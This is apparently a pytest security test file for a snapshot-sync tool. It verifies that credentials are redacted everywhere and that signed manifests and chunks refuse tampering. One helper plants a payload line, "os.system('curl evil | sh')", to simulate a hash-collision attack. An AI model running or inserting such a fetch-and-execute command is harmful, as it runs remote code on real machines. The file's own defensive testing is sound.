"""Security: credentials never leak (output, errors, --json, the store, the cache), and the
tamper-evident mode (``SNAPSYNC_KEY``) refuses tampered manifests and chunks.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import msgpack
import pytest
import zstandard
from treeutil import describe, make_project

import snapsync
import snapsync.core.codec as codec_mod
from snapsync.core.keyed import ENV, Keyring
from snapsync.core.manifest import Entry
from snapsync.core.manifest_decode import decode_manifest
from snapsync.engine.check import check
from snapsync.errors import IntegrityError, StoreAccessError, UsageError
from snapsync.repository import Repository
from snapsync.store import Layout, open_store

KEY = "correct horse battery staple 42"
OTHER_KEY = "another key entirely, 1234567"


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "snapsync", *args], capture_output=True,
                          text=True, timeout=120, env={**os.environ, **(env or {})})


# ------------------------------------------------------------------------------ credentials


def test_credentials_never_in_output_errors_json_store_or_cache(s3_server, s3_bucket,
                                                                tmp_path):
    secret, key = s3_server.secret, s3_server.key
    opts = ["-o", f"key={key}", "-o", f"secret={secret}", "-o",
            f"endpoint_url={s3_server.endpoint}", "-o",
            'config_kwargs={"s3": {"addressing_style": "path"}}']
    url = f"{s3_bucket}/code"
    src = make_project(tmp_path / "src", files=5)
    env = {ENV: KEY}
    outputs = []
    for args in (["push", str(src), url, "--json"], ["push", str(src), url],
                 ["pull", url, str(tmp_path / "dst"), "--json"], ["log", url, "--json"],
                 ["ls", url, "--json"], ["check", url, "--read-data", "--json"],
                 ["gc", url, "--keep-last", "1", "--json"]):
        r = _cli(*args, *opts, env=env)
        assert r.returncode == 0, r.stderr
        outputs.append(r.stdout + r.stderr)
    # Errors: a wrong secret, a missing bucket, a URL with credentials in it.
    wrong = "WRONG-" + secret + "-WRONG"
    bad = [o.replace(secret, wrong) for o in opts]
    r = _cli("pull", url, str(tmp_path / "x"), *bad, env=env)
    assert r.returncode == StoreAccessError.exit_code and "access denied" in r.stderr
    outputs.append(r.stdout + r.stderr)
    r = _cli("push", str(src), "s3://no-such-bucket-here/x", *opts)
    assert r.returncode != 0
    outputs.append(r.stdout + r.stderr)
    r = _cli("pull", f"s3://{key}:{secret}@{s3_bucket[5:]}/code", str(tmp_path / "y"), *bad)
    assert r.returncode != 0
    outputs.append(r.stdout + r.stderr)
    for text in outputs:
        assert secret not in text and KEY not in text, text
    assert all(wrong not in t for t in outputs)

    # The store and the local cache hold neither the secret nor the signing key.
    store = open_store(url, s3_server.storage_options)
    for k in (o.key for o in store.list("")):
        blob = store.get(k)
        if k.endswith(".mf"):
            blob = zstandard.ZstdDecompressor().decompress(blob, max_output_size=1 << 26)
        assert secret.encode() not in blob and KEY.encode() not in blob, k
    cache = Path(os.environ["SNAPSYNC_CACHE_DIR"])
    for p in cache.rglob("*"):
        if p.is_file():
            data = p.read_bytes()
            assert secret.encode() not in data and KEY.encode() not in data, p


def test_wrong_credentials_library_error_is_redacted(s3_server, s3_bucket, tmp_path):
    opts = {**s3_server.storage_options, "secret": "not-the-secret-xyz"}
    with pytest.raises(StoreAccessError) as ei:
        snapsync.pull(f"{s3_bucket}/code", tmp_path / "d", storage_options=opts)
    assert "not-the-secret-xyz" not in str(ei.value) and s3_bucket in str(ei.value)


# ------------------------------------------------------------------------------ tamper-evident


@pytest.fixture
def keyed_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Path, str]:
    """A store with one snapshot signed with KEY; returns (url, source tree, snapshot id)."""
    monkeypatch.setenv(ENV, KEY)
    src = make_project(tmp_path / "src", files=5)
    (src / "app.py").write_bytes(os.urandom(3000))  # incompressible: stored raw
    url = (tmp_path / "store").as_uri()
    sid = snapsync.push(src, url).snapshot_id
    return url, src, sid


def _target(tmp_path: Path, url: str) -> tuple[Path, dict]:
    """A target holding an honest older pull, and its description."""
    dst = tmp_path / "dst"
    dst.mkdir()
    (dst / "old.txt").write_text("previous deploy\n")
    return dst, describe(dst)


def test_signed_roundtrip_and_check(keyed_store, tmp_path):
    url, src, sid = keyed_store
    p = snapsync.pull(url, tmp_path / "out")
    assert p.snapshot_id == sid and describe(tmp_path / "out") == describe(src)
    assert check(url, read_data=True).ok
    m = Repository(open_store(url), None).load_manifest(sid)
    assert m.info["auth"]["key_id"] == Keyring(KEY.encode()).key_id


def _replant(url: str, sid: str, edit) -> str:  # type: ignore[no-untyped-def]
    """Rewrite a manifest with ``edit(parts)`` (tree and info as decoded msgpack)."""
    store = open_store(url)
    raw = zstandard.ZstdDecompressor().decompress(store.get(Layout.manifest(sid)),
                                                  max_output_size=1 << 26)
    parts = msgpack.unpackb(raw, raw=False)
    edit(parts)
    tree = parts[2]
    from snapsync.core.hashing import chunk_id

    new_sid = chunk_id(tree).hex()
    store.put(Layout.manifest(new_sid), zstandard.ZstdCompressor().compress(
        msgpack.packb(parts, use_bin_type=True)))
    ref = json.loads(store.get(Layout.ref("latest")))
    ref["snapshot"] = new_sid
    store.put(Layout.ref("latest"), json.dumps(ref).encode())
    return new_sid


def _mode_flip(parts: list) -> None:
    tree = msgpack.unpackb(parts[2], raw=False)
    # make every file executable (links and dirs keep the only modes the format allows)
    tree[4] = [0o755 if k == ord("f") else m for k, m in zip(tree[3], tree[4], strict=True)]
    parts[2] = msgpack.packb(tree, use_bin_type=True)


@pytest.mark.parametrize("edit,words", [
    (lambda p: p[4].pop("auth"), "is not signed"),
    (_mode_flip, "signature does not verify"),
    (lambda p: p[4].update(ignore=["*"]), "signature does not verify"),
    (lambda p: p[4]["auth"].update(macs=b"\0" * len(p[4]["auth"]["macs"])),
     "signature does not verify"),
])
def test_tampered_manifest_refused_before_writing(keyed_store, tmp_path, edit, words):
    url, _src, sid = keyed_store
    _replant(url, sid, edit)
    dst, before = _target(tmp_path, url)
    with pytest.raises(IntegrityError, match=words):
        snapsync.pull(url, dst, use_cache=False)
    assert describe(dst) == before
    assert not check(url).ok


def test_manifest_signed_with_another_key_refused(keyed_store, tmp_path, monkeypatch):
    url, src, _sid = keyed_store
    monkeypatch.setenv(ENV, OTHER_KEY)
    (src / "extra.txt").write_text("planted by someone with another key\n")
    snapsync.push(src, url)
    monkeypatch.setenv(ENV, KEY)
    dst, before = _target(tmp_path, url)
    with pytest.raises(IntegrityError, match="signed with key"):
        snapsync.pull(url, dst)
    assert describe(dst) == before


def _collide(url: str, sid: str, monkeypatch: pytest.MonkeyPatch) -> bytes:
    """Overwrite app.py's chunk in its pack with other bytes that (we pretend) collide under
    xxh3-128: an attacker with write access who can find collisions for a non-crypto hash."""
    repo = Repository(open_store(url), None)
    m = repo.load_manifest(sid)
    e = next(x for x in m.entries if x.path == b"app.py")
    (cid,) = e.chunks
    loc = m.locations[cid]
    pack = Path(url.removeprefix("file://")) / Layout.pack(loc.pack)
    data = bytearray(pack.read_bytes())
    assert data[loc.offset] == 0  # stored raw
    evil = b"import os; os.system('curl evil | sh')  #".ljust(loc.raw_size, b"#")
    data[loc.offset + 1:loc.offset + loc.length] = evil
    pack.write_bytes(bytes(data))
    real = codec_mod.chunk_id
    monkeypatch.setattr(codec_mod, "chunk_id",
                        lambda d: cid if bytes(d) == evil else real(d))
    return evil


def test_colliding_chunk_accepted_without_key_refused_with_key(keyed_store, tmp_path,
                                                               monkeypatch):
    url, _src, sid = keyed_store
    evil = _collide(url, sid, monkeypatch)
    # Without the key, the xxh3 id is all pull can check: the planted code gets through.
    monkeypatch.delenv(ENV)
    snapsync.pull(url, tmp_path / "naive", use_cache=False)
    assert (tmp_path / "naive" / "app.py").read_bytes() == evil
    # With the key, the chunk's MAC does not match: refused, target untouched.
    monkeypatch.setenv(ENV, KEY)
    dst, before = _target(tmp_path, url)
    with pytest.raises(IntegrityError, match="keyed MAC does not match"):
        snapsync.pull(url, dst, use_cache=False)
    assert describe(dst) == before
    rep = check(url, read_data=True)
    assert any("keyed MAC" in p for p in rep.problems)


def test_poisoned_local_cache_refused_with_key(keyed_store, tmp_path, monkeypatch):
    url, _src, sid = keyed_store
    _collide(url, sid, monkeypatch)
    monkeypatch.delenv(ENV)
    snapsync.pull(url, tmp_path / "naive")  # caches the planted chunk under the real id
    monkeypatch.setenv(ENV, KEY)
    dst, before = _target(tmp_path, url)
    with pytest.raises(IntegrityError, match="keyed MAC"):
        snapsync.pull(url, dst)
    assert describe(dst) == before


def test_unsigned_store_refused_with_key_and_resigned_by_push(tmp_path, monkeypatch):
    src = make_project(tmp_path / "src", files=4)
    url = (tmp_path / "store").as_uri()
    monkeypatch.delenv(ENV, raising=False)
    sid = snapsync.push(src, url).snapshot_id
    monkeypatch.setenv(ENV, KEY)
    with pytest.raises(IntegrityError, match="not signed"):
        snapsync.pull(url, tmp_path / "d1")  # also from the manifest cache
    r = snapsync.push(src, url)  # same tree: not "unchanged", the manifest gets signed
    assert r.snapshot_id == sid and not r.unchanged and r.packs_uploaded == 0
    snapsync.pull(url, tmp_path / "d2")
    assert describe(tmp_path / "d2") == describe(src)


def test_key_must_be_long_enough(monkeypatch, tmp_path):
    monkeypatch.setenv(ENV, "short")
    with pytest.raises(UsageError, match=ENV):
        snapsync.push(make_project(tmp_path / "s", files=1), (tmp_path / "st").as_uri())


def test_signature_covers_chunk_locations():
    """Moving a chunk's location breaks the signature (the index is signed)."""
    from snapsync.core.manifest import FILE, Location
    from snapsync.core.manifest_encode import encode_manifest

    k = Keyring(KEY.encode())
    cid = b"\1" * 16
    entries = [Entry(b"a", FILE, 0o644, 5, (cid,))]
    locs = {cid: Location(b"\2" * 16, 0, 6, 5)}
    info = {"ignore": []}
    info["auth"] = k.sign(entries, locs, info, {cid: b"\3" * 16})
    _, raw = encode_manifest(entries, locs, info)
    k.verify_manifest(decode_manifest(raw))
    moved = {cid: Location(b"\2" * 16, 7, 6, 5)}
    _, raw = encode_manifest(entries, moved, info)
    with pytest.raises(IntegrityError):
        k.verify_manifest(decode_manifest(raw))


def test_urls_with_tokens_are_redacted_in_errors(tmp_path):
    from snapsync.store.store import _scrub, redact_url

    signed = "https://acct.blob.example/c/code?sv=2024&sig=TOPSECRET"
    assert "TOPSECRET" not in redact_url(signed)
    assert "hunter2" not in redact_url("s3://me:hunter2@bucket/x")
    quoted = f"ClientResponseError: 403, message='Forbidden', url='{signed}'"
    assert "TOPSECRET" not in _scrub(quoted) and "acct.blob.example/c/code" in _scrub(quoted)
    with pytest.raises(Exception) as ei:
        snapsync.pull("http://127.0.0.1:9/code?token=TOPSECRET", tmp_path / "d")
    assert "TOPSECRET" not in str(ei.value)
